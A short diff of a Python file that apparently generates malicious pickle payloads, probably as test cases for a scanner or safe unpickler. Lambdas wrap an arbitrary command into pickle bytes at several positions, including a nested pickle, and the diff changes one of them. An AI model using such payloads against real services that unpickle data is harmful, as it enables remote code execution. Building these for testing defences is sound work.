@@ -72,7 +72,7 @@ NAMED = {
     ),
     "in a reference": lambda command: b"\x80\x02" + call(command) + b"Q.",
     "in the state of an object": lambda command: b"ccollections\nOrderedDict\n)R}" + text("x") + call(command) + b"sb.",
-    "in the key of an item": lambda command: b"}" + call(command) + b"Ns.",
+    "in the key of an item": lambda command: b"]}" + call(command) + b"Nsa.",
     "a pickle in a pickle": lambda command: (
         b"\x80\x03c_pickle\nloads\n(B" + struct.pack("<I", len(call(command)) + 1) + call(command) + b"." + b"tR."
     ),
